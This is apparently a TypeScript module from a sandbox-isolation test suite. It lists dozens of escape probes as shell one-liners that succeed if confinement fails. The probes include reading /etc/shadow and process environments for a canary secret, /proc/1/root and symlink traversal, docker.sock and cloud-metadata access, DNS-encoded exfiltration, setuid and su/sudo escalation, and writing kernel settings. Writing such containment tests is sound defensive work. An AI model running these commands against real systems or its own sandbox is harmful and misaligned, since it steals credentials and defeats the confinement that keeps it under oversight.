/** Targets on the host that an attack tries to reach. */
export interface Loot {
  /** A file that every user of the host may read. */
  readonly file: string;
  /** A process of the host with the secret in its environment. */
  readonly pid: number;
  readonly port: number;
  readonly address: string;
  readonly abstract: string;
  readonly socket: string;
}

/** Attempts by title; each is a shell script that exits with 0 if it succeeded. */
export type Attempts = Readonly<Record<string, string>>;

export function networkAttempts(loot: Loot): Attempts {
  const { port, address, abstract, socket } = loot;
  return {
    'A14: a raw socket for ICMP': socketOf(2, 3, 1),
    'A14: a packet over an ICMP datagram socket': `${ping('1.1.1.1')}`,
    'A14: a raw socket for TCP': socketOf(2, 3, 6),
    'A14: a raw socket for all of IP': socketOf(2, 3, 255),
    'A14: a raw socket for ICMPv6': socketOf(10, 3, 58),
    'A14: a packet socket': socketOf(17, 3, 768),
    'A14: vsock, to the host of a virtual machine': socketOf(40, 1, 0),
    'A14: a kernel crypto socket': socketOf(38, 5, 0),
    'A14: Bluetooth': socketOf(31, 1, 3),
    'A14: a CAN bus': socketOf(29, 3, 1),
    'A14: TIPC': socketOf(30, 2, 0),
    'A14: XDP': socketOf(44, 3, 0),
    'A14: io_uring, which opens sockets itself': syscall(425, 4),
    'A14: TCP to the internet': tcp('1.1.1.1', 443),
    'A14: TCP over IPv6': tcp('2606:4700:4700::1111', 443),
    'A14: TCP to an arbitrary port': tcp('1.1.1.1', 31_337),
    'A14: UDP to port 443, as for QUIC': udp('1.1.1.1', 443),
    'A14: a UDP broadcast': udp('255.255.255.255', 9),
    'A14: UDP multicast': udp('224.0.0.251', 5353),
    'A14: an abstract socket of the host': unix(`\\0${abstract}`),
    'A14: a socket file of the host': unix(socket),
    'A14: another network interface': 'ip link add probe type dummy || ip link set eth0 up',
    'A14: another route': 'ip route add default dev lo && exit 1; ip addr add 10.9.9.9/8 dev lo',
    'A14: the network namespace of another process':
      'nsenter --net=/proc/1/ns/net ip route | grep default',
    'A14: a new network namespace': 'unshare --net true || unshare --user --net true',
    'A16: the metadata service of a cloud': tcp('169.254.169.254', 80),
    'A16: the metadata service of a cloud over IPv6': tcp('fd00:ec2::254', 80),
    'A16: a port of the host on its loopback': tcp('127.0.0.1', port),
    'A16: a port of the host on IPv6 loopback': tcp('::1', port),
    'A16: a port of the host by its address': tcp(address, port),
    'A16: the local network': `${tcp('192.168.0.1', 80)} || ${tcp('10.0.0.1', 80)}`,
    'A16: the gateway of a container network': tcp('172.17.0.1', port),
    'A16: the socket of a container engine': `${unix('/var/run/docker.sock')} || ${unix('/run/podman/podman.sock')}`,
    'A16: the D-Bus system bus': unix('/run/dbus/system_bus_socket'),
    'A13: a DNS lookup': 'getent hosts c2VjcmV0.example.com',
    'A13: a DNS query to the system resolver': udp('127.0.0.53', 53, 'read'),
    'A13: a DNS query to a public resolver': udp('8.8.8.8', 53),
    'A13: a DNS query over TCP': tcp('9.9.9.9', 853),
  };
}

export function fileAttempts({ file, pid }: Loot): Attempts {
  const up = '../'.repeat(12);
  return {
    'A17: reading a file that every user may read': `cat ${file}`,
    'A17: reading a file through the root of the first process': `cat /proc/1/root${file}`,
    'A17: reading a file through the root of every process': `cat /proc/[0-9]*/root${file}`,
    'A17: reading a file through its own root': `cat /proc/self/root${file}`,
    'A17: reading the environment of a host process': `cat /proc/${pid}/environ`,
    'A17: reading the environment of every process':
      'cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep CANARY',
    'A17: listing processes with their environment': 'ps auxe | grep CANARY | grep -v grep',
    'A17: reading the descriptors of other processes': `cat /proc/1/fd/* /proc/${pid}/fd/*`,
    'A17: reading the memory of the first process': 'head -c 1 /proc/1/mem',
    'A17: reading the memory of the machine': 'head -c 1 /dev/mem || head -c 1 /proc/kcore',
    'A17: reading kernel messages': 'dmesg || head -c 1 /dev/kmsg',
    'A17: passwords': 'cat /etc/shadow || cat /etc/gshadow',
    "A17: reading root's home": 'ls /root',
    "A17: reading other users' homes": 'ls /home | grep -v "^agent$"',
    'A17: listing /var, /srv, /mnt and /media': 'ls /var /srv /mnt /media',
    'A17: listing the devices of the machine': 'ls /sys /dev/sda /dev/vda /dev/kvm /dev/fuse',
    'A17: reading kernel keys': `${syscall(250, 0, 4294967293, 0)} || cat /proc/keys | grep .`,
    'A17: a signal to a host process': `kill -0 ${pid}`,
    'A18: leaving the work folder with ..': `cat ${up}${file.slice(1)}`,
    'A18: leaving through the folder of a process': `cat /proc/self/cwd/${up}${file.slice(1)}`,
    'A18: a symbolic link in the work folder': `ln -s ${file} link && cat link`,
    'A18: a symbolic link to a folder': 'ln -s / out && cat out/etc/shadow',
    'A18: a symbolic link to a symbolic link': `ln -s ${file} a; ln -s a b && cat b`,
    'A18: a hard link': `ln ${file} hard || ln /proc/1/root${file} hard`,
    'A18: a hard link to a program': 'ln /usr/bin/su suid',
    'A18: a bind mount': 'mkdir -p m; mount --bind /proc/1/root m || mount -o bind / m',
    'A18: chroot into another root': 'chroot /proc/1/root true',
    'A18: a device': 'mknod disk b 8 0 || mknod mem c 1 1',
    'A18: opening a file by its handle': syscall(304, -1, 0, 0),
    'A18: reading a file by its name in upper case': `cat ${file.toUpperCase()}`,
    'A18: running the program of a host process': `/proc/${pid}/exe --version`,
    'A18: a set-user-id program': 'cp /usr/bin/id i && chmod u+s i && ./i | grep "euid=0"',
    'A18: root by su or sudo': 'su -c true || sudo -n true',
    'A18: changing the user': 'setpriv --reuid 0 true || setpriv --reuid 1000 true',
    'A18: writing to the root folder': 'touch /probe || mkdir /probe',
    'A18: changing system programs':
      'touch /usr/bin/probe || rm /usr/bin/env || echo x >> /etc/hosts',
    'A18: changing the programs of the cell':
      'echo x >> /opt/hall/bin/node || rm -f /opt/hall/bin/node',
    'A18: writing kernel settings':
      'for s in kernel/core_pattern vm/panic_on_oom kernel/hostname; do echo x > /proc/sys/$s && exit 0; done; exit 1',
    'A18: loading a kernel module': 'modprobe dummy || insmod x.ko',
  };
}

function socketOf(family: number, type: number, protocol: number): string {
  return `perl -e 'socket(my $s, ${family}, ${type}, ${protocol}) or exit 1'`;
}

function syscall(...values: readonly number[]): string {
  return `perl -e 'my $b = "\\0" x 256; exit(syscall(${values.join(', ')}, $b) < 0 ? 1 : 0)'`;
}

function ping(address: string): string {
  return `perl -MSocket -e 'socket(my $s, 2, 2, 1) or exit 1; send($s, "\\x08" . "\\0" x 7, 0, pack_sockaddr_in(0, inet_aton("${address}"))) or exit 1'`;
}

/** Reached, or on its way without an answer: both have left the cell. */
function tcp(host: string, port: number): string {
  const act = `const s = require("node:net").connect({ host: "${host}", port: ${port}, timeout: 20000 })`;
  const ends = `.on("connect", () => process.exit(0)).on("timeout", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e '${act}${ends}'`;
}

function udp(host: string, port: number, mode: 'send' | 'read' = 'send'): string {
  const sent =
    mode === 'send' ? '(e) => process.exit(e ? 1 : 0)' : '(e) => { if (e) process.exit(1) }';
  const act = `const s = require("node:dgram").createSocket("udp4").on("message", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e '${act}; s.send("x", ${port}, "${host}", ${sent}); setTimeout(() => process.exit(1), 300)'`;
}

function unix(path: string): string {
  const ends = `.on("connect", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e 'require("node:net").connect("${path}")${ends}'`;
}
